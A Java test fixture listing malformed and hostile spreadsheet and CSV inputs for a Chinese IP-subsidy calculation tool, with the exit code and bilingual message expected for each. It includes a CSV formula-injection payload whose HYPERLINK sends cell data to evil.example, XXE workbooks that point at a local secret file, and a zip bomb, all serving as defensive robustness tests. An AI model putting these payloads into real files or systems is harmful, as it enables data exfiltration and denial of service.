package cn.ipsubsidy.cli;

import static cn.ipsubsidy.testsupport.RawXlsx.date;
import static cn.ipsubsidy.testsupport.RawXlsx.error;
import static cn.ipsubsidy.testsupport.RawXlsx.number;
import static cn.ipsubsidy.testsupport.RawXlsx.row;
import static cn.ipsubsidy.testsupport.RawXlsx.text;
import static cn.ipsubsidy.testsupport.RawXlsx.textRow;

import cn.ipsubsidy.testsupport.Crafted;
import cn.ipsubsidy.testsupport.RawXlsx;
import cn.ipsubsidy.testsupport.ZipBomb;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;

/**
 * The corpus of bad inputs (issue 5): each file a clerk may be e-mailed, how it is made, and what
 * the tool must answer. Small files are checked in under {@code src/test/resources/bad-inputs/};
 * the big or binary ones are generated here into a temporary folder on every run. {@link
 * BadInputsTest} runs each through {@code ipsubsidy calc} and writes {@code docs/robustness.md}.
 *
 * <p>Whole-file problems exit 2 with one bilingual line naming the file and no output; row and cell
 * problems exit 1 with the row listed (sheet, row, column, cell text, reason) and the other rows
 * paid; inputs the contract accepts exit 0 and the test states what is computed.
 */
final class BadInputs {
  private BadInputs() {}

  /** Writes a generated input to {@code file}. */
  @FunctionalInterface
  interface Maker {
    void make(Path file) throws Exception;
  }

  /**
   * One input.
   *
   * @param file the file name (in bad-inputs/ when {@code maker} is null)
   * @param what what it is, "中文 / English"
   * @param maker null for a checked-in file
   * @param args options after the file
   * @param exit the exit code
   * @param says fragments the clerk must see (stderr for exit 2, stdout otherwise)
   * @param result the 明细 outcome, "id status paid; …", or null when nothing is written
   */
  record Case(
      String file,
      String what,
      Maker maker,
      List<String> args,
      int exit,
      List<String> says,
      String result) {
    String name() {
      return args.isEmpty() ? file : file + " " + String.join(" ", args);
    }

    Case exit(int code) {
      return new Case(file, what, maker, args, code, says, result);
    }

    Case says(String... fragments) {
      List<String> all = new ArrayList<>(says);
      all.addAll(Arrays.asList(fragments));
      return new Case(file, what, maker, args, exit, List.copyOf(all), result);
    }

    Case pays(String outcome) {
      return new Case(file, what, maker, args, exit, says, outcome);
    }

    Case with(String... options) {
      return new Case(file, what, maker, List.of(options), exit, says, result);
    }

    @Override
    public String toString() {
      return name();
    }
  }

  static Case file(String name, String what) {
    return new Case(name, what, null, List.of(), 0, List.of(), null);
  }

  static Case made(String name, String what, Maker maker) {
    return new Case(name, what, maker, List.of(), 0, List.of(), null);
  }

  // ---- the claims the cases are made of

  static final String USCC_A = "91320706MA10000017";
  static final String USCC_C = "91320706MA1000003D";
  static final String[] H7 = {"申报编号", "主体代码", "主体名称", "主体类型", "所属地区", "条款", "事项日期"};
  static final String[] G1 = {
    "G1", USCC_C, "连云港港口科技有限公司", "企业", "连云区", "lyg-2021/2b", "2025-01-15"
  };
  static final String G1_PAID = "G1 核发 200,000.00";

  static String[] plus(String[] first, String... more) {
    String[] all = Arrays.copyOf(first, first.length + more.length);
    System.arraycopy(more, 0, all, first.length, more.length);
    return all;
  }

  static RawXlsx claimsSheet(String... rowsXml) {
    return RawXlsx.workbook().sheet("申报", textRow(1, H7) + String.join("", rowsXml));
  }

  static final String FILE_ERROR = "未写出任何文件 nothing written";

  static List<Case> all() {
    List<Case> c = new ArrayList<>();
    fileLevel(c);
    sheetsAndHeaders(c);
    sizes(c);
    security(c);
    csvForms(c);
    money(c);
    dates(c);
    identifiers(c);
    rows(c);
    cells(c);
    return c;
  }

  // ---- whole files that are not claims files

  private static void fileLevel(List<Case> c) {
    c.add(file("empty.csv", "空文件 / empty file").exit(2).says("文件是空的", "the file is empty"));
    c.add(
        file("empty.xlsx", "零字节的 xlsx / zero-byte xlsx")
            .exit(2)
            .says("文件是空的", "the file is empty"));
    c.add(
        file("text-renamed.xlsx", "改了扩展名的文本（CSV）/ text renamed .xlsx")
            .exit(2)
            .says("不是 Excel 工作簿", "a text file (a CSV renamed .xlsx?)"));
    c.add(
        file("pdf-renamed.xlsx", "改了扩展名的 PDF / PDF renamed .xlsx")
            .exit(2)
            .says("PDF 文档", "the content is a PDF document"));
    c.add(
        file("html-renamed.xls", "网上系统导出的 HTML “xls” / HTML exported as .xls")
            .exit(2)
            .says("网页 (HTML)", "a web page (HTML)"));
    c.add(
        made(
                "word-renamed.xls",
                "改了扩展名的 Word 97-2003 文档 / Word .doc renamed .xls",
                Crafted::wordDocument)
            .exit(2)
            .says("其他 Office 97-2003 文档", "another Office 97-2003 document"));
    c.add(
        made(
                "truncated.xlsx",
                "截断的 xlsx（ZIP 在中间断开）/ truncated xlsx (zip cut in the middle)",
                f -> {
                  byte[] whole = bytes(claimsSheet(textRow(2, G1)));
                  Files.write(f, Arrays.copyOf(whole, whole.length / 2));
                })
            .exit(2)
            .says("文件不完整或已损坏", "the file is incomplete or damaged"));
    c.add(
        made(
                "password-protected.xlsx",
                "有密码保护的 xlsx / password-protected xlsx",
                f -> Crafted.passwordProtected(claimsSheet(textRow(2, G1)), f))
            .exit(2)
            .says("文件有密码保护", "file is password-protected"));
    c.add(
        file(
                "zstd-compressed-part.xlsx",
                "ZIP 部件用 zstd 压缩（模糊测试发现）/ a zip part compressed with zstd (found by fuzzing)")
            .exit(2)
            .says("Excel 不会使用的压缩方式", "a compression method Excel never writes"));
    c.add(
        made("excel95.xls", "Excel 5.0/95 保存的 xls / xls saved by Excel 95", Crafted::excel95)
            .exit(2)
            .says("Excel 5.0/95", "not supported; save it as .xlsx"));
    c.add(
        made(
                "excel97.xls",
                "Excel 97-2003 保存的 xls（合同允许）/ xls saved by Excel 97-2003 (allowed)",
                f -> xls(f, H7, G1))
            .pays(G1_PAID));
  }

  // ---- sheets and header rows

  private static void sheetsAndHeaders(List<Case> c) {
    c.add(
        made(
                "no-header.xlsx",
                "唯一的工作表没有表头 / the only sheet has no header row",
                f ->
                    RawXlsx.workbook()
                        .sheet(
                            "Sheet1",
                            textRow(1, "2025年第一季度知识产权资助申报汇总表")
                                + textRow(2, "编号", "单位", "金额")
                                + textRow(3, "1", "海创医药", "10000"))
                        .write(f))
            .exit(2)
            .says("没有找到表头行", "no header row in the first 20 rows"));
    c.add(
        file("header-missing-columns.csv", "表头缺少必填列 / header lacks required columns")
            .exit(2)
            .says("表头缺少必填列：条款、事项日期", "lacks required columns: 条款 (clause), 事项日期 (event_date)"));
    c.add(
        file("header-duplicate-columns.csv", "同一列出现两次（主体名称 与 entity_name）/ a column named twice")
            .exit(2)
            .says("列“主体名称”出现了两次", "is named twice"));
    c.add(
        file("header-after-row-20.csv", "表头在第 20 行之后 / header below row 20")
            .exit(2)
            .says("前 20 行中没有找到表头行", "no header row in the first 20 rows"));
    c.add(
        made(
                "header-merged-two-rows.xlsx",
                "合并单元格的两行表头（分组标题在上）/ merged header cells over two header rows",
                f -> Crafted.twoRowHeader(f, textRow(3, G1)))
            .exit(2)
            .says("表头只能占一行", "the header must be a single row"));
    c.add(
        made(
                "header-merged-cells.xlsx",
                "合并的标题行和跨两列的表头单元格 / merged title row and a header cell over two columns",
                f ->
                    RawXlsx.workbook()
                        .sheetWithTail(
                            "申报",
                            textRow(1, "2025年第一季度知识产权资助申报汇总表")
                                + textRow(
                                    2, "申报编号", "主体代码", "主体名称", null, "主体类型", "所属地区", "条款", "事项日期")
                                + textRow(
                                    3,
                                    "G1",
                                    USCC_C,
                                    "连云港港口科技有限公司",
                                    null,
                                    "企业",
                                    "连云区",
                                    "lyg-2021/2b",
                                    "2025-01-15"),
                            "<mergeCells count=\"2\"><mergeCell ref=\"A1:H1\"/>"
                                + "<mergeCell ref=\"C2:D2\"/></mergeCells>")
                        .write(f))
            .pays(G1_PAID));
    c.add(
        file(
                "header-twice-chinese-and-english.csv",
                "两行表头：中文一行、英文一行 / two header rows, Chinese then English")
            .pays(G1_PAID));
    c.add(
        made(
                "hidden-sheets-first.xlsx",
                "申报表之前有隐藏工作表（其中一张也有表头）/ hidden sheets before the claims sheet",
                f ->
                    RawXlsx.workbook()
                        .hiddenSheet(
                            "旧数据",
                            "hidden",
                            textRow(1, H7)
                                + textRow(
                                    2,
                                    "OLD1",
                                    USCC_A,
                                    "海创医药科技有限公司",
                                    "企业",
                                    "海州区",
                                    "lyg-2021/2b",
                                    "2024-01-15"))
                        .hiddenSheet("参数", "veryHidden", textRow(1, "条款", "金额"))
                        .sheet("申报", textRow(1, H7) + textRow(2, G1))
                        .write(f))
            .says("工作表 申报", "sheet 申报")
            .pays(G1_PAID));
    c.add(
        made(
                "no-such-sheet.xlsx",
                "--sheet 指定了不存在的工作表 / --sheet names no sheet",
                f -> claimsSheet(textRow(2, G1)).write(f))
            .with("--sheet", "Sheet9")
            .exit(2)
            .says("没有名为“Sheet9”的工作表", "no sheet named \"Sheet9\"; the workbook has: \"申报\""));
    c.add(
        file("header-only.csv", "只有表头、没有数据行 / a header and no data rows")
            .exit(2)
            .says("表头下没有申报", "no claims under the header"));
    c.add(
        file("closing-total-row.csv", "末尾的“合计”行 / a closing 合计 row")
            .pays("G1 核发 200,000.00; M1 核发 5,000.00"));
  }

  // ---- sizes

  private static void sizes(List<Case> c) {
    c.add(
        made(
                "rows-1048576.xlsx",
                "1,048,576 行的工作表（格式刷到最后一行，首尾各有一笔申报）/ a 1,048,576-row sheet",
                f ->
                    RawXlsx.workbook()
                        .sheet(
                            "申报",
                            w -> {
                              w.write(textRow(1, H7));
                              w.write(textRow(2, G1));
                              for (int r = 3; r < 1_048_576; r++) {
                                w.write("<row r=\"" + r + "\" s=\"1\" customFormat=\"1\">");
                                w.write("<c r=\"A" + r + "\" s=\"1\"/></row>");
                              }
                              w.write(
                                  textRow(
                                      1_048_576,
                                      "Z1",
                                      USCC_A,
                                      "海创医药科技有限公司",
                                      "企业",
                                      "海州区",
                                      "lyg-2021/2b",
                                      "2025-03-31"));
                            })
                        .write(f))
            .says("读取 2 行", "rows 2")
            .pays("G1 核发 200,000.00; Z1 核发 200,000.00"));
    c.add(
        made(
                "row-beyond-excel.xlsx",
                "行号超过 1,048,576（不是 Excel 保存的）/ a row number past Excel's last row",
                f -> claimsSheet(textRow(2, G1), textRow(1_048_577, G1)).write(f))
            .exit(2)
            .says(
                "行号 1048577 超出 Excel 工作表的范围", "row number 1048577 is outside an Excel worksheet"));
    c.add(
        made(
                "cell-10mb.xlsx",
                "10 MB 的单元格（备注栏）/ a 10 MB cell (in 备注)",
                f -> {
                  char[] big = new char[10 << 20];
                  Random random = new Random(5);
                  for (int i = 0; i < big.length; i++) {
                    big[i] = (char) ('a' + random.nextInt(26));
                  }
                  RawXlsx.workbook()
                      .sheet(
                          "申报",
                          textRow(1, plus(H7, "备注"))
                              + textRow(2, G1)
                              + textRow(
                                  3,
                                  "N1",
                                  USCC_A,
                                  "海创医药科技有限公司",
                                  "企业",
                                  "海州区",
                                  "lyg-2021/2b",
                                  "2025-02-01",
                                  new String(big)))
                      .write(f);
                })
            .exit(1)
            .says("备注 (H)", "10485760 个字符，超出 Excel 单元格上限 32,767", "…")
            .pays("G1 核发 200,000.00; N1 不予核发 0.00"));
    c.add(
        made(
                "zip-bomb.xlsx",
                "ZIP 炸弹：2 MB 的文件解压后 2 GB / zip bomb: 2 MB that inflate to 2 GB",
                f -> ZipBomb.write(f, textRow(1, H7), 2048))
            .exit(2)
            .says("疑似“ZIP 炸弹”", "a zip bomb?"));
  }

  // ---- hostile XML

  private static void security(List<Case> c) {
    for (String part : Crafted.XML_PARTS) {
      c.add(
          made(
                  "doctype-" + part + ".xlsx",
                  "XML 含 DOCTYPE 和指向本地文件的外部实体（"
                      + part
                      + "）/ a DOCTYPE with an external entity for a local file ("
                      + part
                      + ")",
                  f ->
                      Crafted.doctypeWorkbook(
                          f,
                          part,
                          Files.writeString(f.resolveSibling("secret.txt"), BadInputsTest.SECRET),
                          textRow(1, H7),
                          textRow(2, G1)))
              .exit(2)
              .says("DOCTYPE", "refused"));
    }
    c.add(
        file(
                "formula-injection.csv",
                "以 = + - @ 制表符开头的单元格（公式注入）/ cells that start like formulas (injection)")
            .pays(
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\") 核发 200,000.00; '+86-1 核发 200,000.00"));
  }

  // ---- CSV forms

  private static void csvForms(List<Case> c) {
    c.add(file("csv-bom.csv", "带 BOM 的 UTF-8 CSV（合同允许）/ CSV with a BOM (allowed)").pays(G1_PAID));
    c.add(
        file("csv-semicolon.csv", "分号分隔的 CSV（自动识别）/ semicolon-separated CSV (detected)")
            .pays(G1_PAID));
    c.add(
        file(
                "csv-gbk-with-stray-utf8.csv",
                "GBK 编码的 CSV 混入一个 UTF-8 字符 / GBK CSV with a stray UTF-8 character")
            .exit(2)
            .says("第 2 行有无法解读的字节", "line 2 holds bytes that are not text", "GB18030/GBK"));
    c.add(
        file("csv-quote-never-closed.csv", "CSV 引号没有闭合 / a quote never closed")
            .exit(2)
            .says("第 2 行开始的带引号字段", "the quoted field that starts on line 2 is never closed"));
    c.add(
        file("csv-quote-inside-field.csv", "CSV 结束引号后还有字符 / text after a closing quote")
            .exit(2)
            .says("第 2 行的结束引号后紧跟其他字符", "on line 2 a closing quote is followed by other"));
  }

  // ---- money

  private static void money(List<Case> c) {
    String[][] allowed = {
      {"money-ok-grouped.csv", "12,345.60", "6,172.80"},
      {"money-ok-fullwidth-digits.csv", "１２３４５.６", "6,172.80"},
      {"money-ok-yen.csv", "¥1,000", "500.00"},
      {"money-ok-fullwidth-yen.csv", "￥1,000", "500.00"},
      {"money-ok-wan.csv", "1.5万", "7,500.00"},
      {"money-ok-wan-yuan.csv", "1.5万元", "7,500.00"},
      {"money-ok-plain.csv", "12345.6", "6,172.80"},
    };
    for (String[] a : allowed) {
      c.add(
          file(a[0], "金额 `" + a[1] + "`（合同允许；50% 计）/ money `" + a[1] + "` (allowed; 50% paid)")
              .pays("M1 核发 " + a[2]));
    }
    c.add(
        made(
                "money-number-cells.xlsx",
                "金额为数字单元格，日期为日期单元格 / money in number cells, a date cell",
                f ->
                    RawXlsx.workbook()
                        .sheet(
                            "申报",
                            textRow(1, plus(H7, "数量", "计算基数"))
                                + row(
                                    2,
                                    text("A2", "M1"),
                                    text("B2", USCC_A),
                                    text("C2", "海创医药科技有限公司"),
                                    text("D2", "企业"),
                                    text("E2", "海州区"),
                                    text("F2", "lyg-2021/1b"),
                                    date("G2", 45689),
                                    number("H2", "1"),
                                    number("I2", "12345.6")))
                        .write(f))
            .pays("M1 核发 6,172.80"));
    String[][] wrong = {
      {"money-bad-1.2.3.csv", "1.2.3", "数字格式不对：1.2.3", "malformed number: 1.2.3"},
      {"money-bad-12-comma-34.csv", "12,34", "千分位逗号位置不对：12,34", "misplaced thousands separator"},
      {"money-bad-negative.csv", "-5", "金额不能为负数：-5", "amount must not be negative"},
      {"money-bad-1e9.csv", "1e9", "不接受科学计数法", "scientific notation is not accepted"},
      {"money-bad-nan.csv", "NaN", "不是数字：NaN", "not a number: NaN"},
      {"money-bad-0.001.csv", "0.001", "金额最多两位小数（到分）：0.001", "at most two decimals"},
      {"money-bad-chinese-numerals.csv", "壹万元", "不支持中文数字金额", "Chinese numerals are not supported"},
    };
    for (String[] w : wrong) {
      c.add(
          file(w[0], "金额 `" + w[1] + "` / money `" + w[1] + "`")
              .exit(1)
              .says("第3行，计算基数 (H)「" + w[1] + "」", "row 3, 计算基数 (H)「" + w[1] + "」", w[2], w[3])
              .pays(G1_PAID + "; M1 不予核发 0.00"));
    }
    c.add(
        file("money-bad-1.2.3.csv", "同上，加 --strict：整批不写出 / the same with --strict: nothing written")
            .with("--strict")
            .exit(1)
            .says("1.2.3", "--strict：存在数据错误行，未写出任何文件"));
  }

  // ---- dates

  private static void dates(List<Case> c) {
    String[][] allowed = {
      {"date-ok-iso.csv", "2025-03-01"},
      {"date-ok-slashes.csv", "2025/3/1"},
      {"date-ok-dots.csv", "2025.3.1"},
      {"date-ok-chinese.csv", "2025年3月1日"},
      {"date-ok-compact.csv", "20250301"},
    };
    for (String[] a : allowed) {
      c.add(
          file(a[0], "日期 `" + a[1] + "`（合同允许）/ date `" + a[1] + "` (allowed)")
              .says("期间 2025Q1（最晚事项日期 2025-03-01）", "period 2025Q1 (latest event date 2025-03-01)")
              .pays("D1 核发 200,000.00"));
    }
    String[][] wrong = {
      {"date-bad-feb-30.csv", "2025-02-30", "日期不存在：2025-02-30", "no such date: 2025-02-30"},
      {"date-bad-13-13-2025.csv", "13/13/2025", "年份应在前", "the year comes first"},
      {
        "date-bad-serial-as-text.csv",
        "45717",
        "这是 Excel 日期序号",
        "Excel date serial number written as text"
      },
    };
    for (String[] w : wrong) {
      c.add(
          file(w[0], "日期 `" + w[1] + "` / date `" + w[1] + "`")
              .exit(1)
              .says("第3行，事项日期 (G)「" + w[1] + "」", "row 3, 事项日期 (G)「" + w[1] + "」", w[2], w[3])
              .pays(G1_PAID + "; D1 不予核发 0.00"));
    }
  }

  // ---- identifiers

  private static void identifiers(List<Case> c) {
    c.add(
        file("id-bad-check-uscc.csv", "统一社会信用代码校验位错误 / wrong check character (USCC)")
            .exit(1)
            .says("主体代码 (B)「91320706MA10000018」", "校验位错误")
            .pays(G1_PAID + "; I1 不予核发 0.00"));
    c.add(
        file(
                "id-bad-check-resident.csv",
                "身份证号校验位错误（终端脱敏显示）/ wrong check digit (resident ID, masked)")
            .exit(1)
            .says("主体代码 (B)「320706********1238」", "身份证号校验位错误：应为 6，实为 8")
            .pays(G1_PAID + "; I1 不予核发 0.00"));
    String paidBoth = "I1 核发 200,000.00; I2 核发 50,000.00";
    c.add(
        file(
                "id-ok-lower-case.csv",
                "代码含小写字母（规范化后校验）/ lower-case letters (normalised, then checked)")
            .pays(paidBoth));
    c.add(
        file("id-ok-full-width.csv", "代码为全角字符（规范化后校验）/ full-width characters (normalised)")
            .pays(paidBoth));
    c.add(file("id-ok-spaces.csv", "代码中有空格（规范化后校验）/ spaces inside (normalised)").pays(paidBoth));
  }

  // ---- rows

  private static void rows(List<Case> c) {
    c.add(
        file("claim-id-repeated.csv", "同一申报编号出现两次 / a claim id repeated in the file")
            .exit(1)
            .says(
                "第4行，申报编号 (A)「A1」",
                "row 4, 申报编号 (A)「A1」",
                "申报编号重复，与第 2 行相同",
                "duplicate claim id, the same as row 2")
            .pays("A1 核发 200,000.00; A2 核发 200,000.00; A1 不予核发 0.00"));
    c.add(
        file("clause-unknown.csv", "不存在的条款代码 / unknown clause code")
            .exit(1)
            .says("第3行：", "row 3:", "无条款 99z", "policy lyg-2021 has no clause 99z")
            .pays(G1_PAID + "; K1 不予核发 0.00"));
    c.add(
        file(
                "clause-of-another-city.csv",
                "其他城市政策的条款（不予核发，但不是数据错误）/ a clause of another city's policy (rejected, not bad data)")
            .pays(G1_PAID + "; K1 不予核发 0.00（条款 wx-2020/1e 属于无锡市的政策，不适用于连云港市）"));
    c.add(
        file("district-unknown.csv", "辖区外的所属地区 / a district of no registered jurisdiction")
            .exit(1)
            .says("所属地区“上海市浦东新区”不属于任何已登记政策的辖区")
            .pays(G1_PAID + "; K1 不予核发 0.00"));
    c.add(
        file("entity-type-unknown.csv", "无法识别的主体类型 / unknown entity type")
            .exit(1)
            .says("主体类型 (D)「个体工商户」", "无法识别“个体工商户”")
            .pays(G1_PAID + "; K1 不予核发 0.00"));
    String[][] quantities = {
      {"quantity-zero.csv", "0", "须至少为 1：0", "must be at least 1"},
      {"quantity-fraction.csv", "1.5", "须为整数：1.5", "must be a whole number"},
      {"quantity-negative.csv", "-1", "不能为负数：-1", "must not be negative"},
    };
    for (String[] q : quantities) {
      c.add(
          file(q[0], "数量 " + q[1] + " / quantity " + q[1])
              .exit(1)
              .says("数量 (H)「" + q[1] + "」", q[2], q[3])
              .pays(G1_PAID + "; Q1 不予核发 0.00"));
    }
    c.add(
        file("level-missing.csv", "按级别奖励的条款缺少级别 / level missing where the clause pays by level")
            .exit(1)
            .says("第3行：", "row 3:", "级别必填", "level is required for lyg-2021/4a")
            .pays(G1_PAID + "; L1 不予核发 0.00"));
  }

  // ---- cells of spreadsheets

  private static void cells(List<Case> c) {
    c.add(
        made(
                "numbers-stored-as-text.xlsx",
                "数字以文本存储（合同允许）/ numbers stored as text (allowed)",
                f ->
                    RawXlsx.workbook()
                        .sheet(
                            "申报",
                            textRow(1, plus(H7, "数量", "计算基数"))
                                + textRow(2, plus(G1, "2", ""))
                                + textRow(
                                    3,
                                    "M1",
                                    USCC_A,
                                    "海创医药科技有限公司",
                                    "企业",
                                    "海州区",
                                    "lyg-2021/1b",
                                    "2025-02-01",
                                    "",
                                    "12345.6"))
                        .write(f))
            .pays("G1 核发 400,000.00; M1 核发 6,172.80"));
    String[][] errors = {
      {"formula-div0.xlsx", "#DIV/0!", "1/0"}, {"formula-ref.xlsx", "#REF!", "#REF!*2"}
    };
    for (String[] e : errors) {
      c.add(
          made(
                  e[0],
                  "公式单元格结果为 " + e[1] + " / a formula cell giving " + e[1],
                  f -> formulaRow(f, error("H3", e[2], e[1])))
              .exit(1)
              .says("计算基数 (H)「" + e[1] + "」", "公式出错：" + e[1], "the formula gives an error")
              .pays(G1_PAID + "; M1 不予核发 0.00"));
    }
    c.add(
        made(
                "formula-without-result.xlsx",
                "公式没有保存计算结果 / a formula saved without its result",
                f -> formulaRow(f, "<c r=\"H3\"><f>1000*3</f></c>"))
            .exit(1)
            .says("计算基数 (H)「=1000*3」", "公式没有保存的计算结果", "the formula has no saved result")
            .pays(G1_PAID + "; M1 不予核发 0.00"));
  }

  private static void formulaRow(Path f, String basisCell) throws Exception {
    RawXlsx.workbook()
        .sheet(
            "申报",
            textRow(1, plus(H7, "计算基数"))
                + textRow(2, G1)
                + row(
                    3,
                    text("A3", "M1"),
                    text("B3", USCC_A),
                    text("C3", "海创医药科技有限公司"),
                    text("D3", "企业"),
                    text("E3", "海州区"),
                    text("F3", "lyg-2021/1b"),
                    text("G3", "2025-02-01"),
                    basisCell))
        .write(f);
  }

  // ---- helpers

  private static byte[] bytes(RawXlsx x) throws Exception {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    x.write(out);
    return out.toByteArray();
  }

  /** An Excel 97-2003 workbook of text cells, one sheet. */
  static void xls(Path file, String[]... rows) throws Exception {
    try (HSSFWorkbook wb = new HSSFWorkbook();
        OutputStream out = Files.newOutputStream(file)) {
      Sheet s = wb.createSheet("申报");
      for (int r = 0; r < rows.length; r++) {
        Row row = s.createRow(r);
        for (int i = 0; i < rows[r].length; i++) {
          row.createCell(i).setCellValue(rows[r][i]);
        }
      }
      wb.write(out);
    }
  }
}
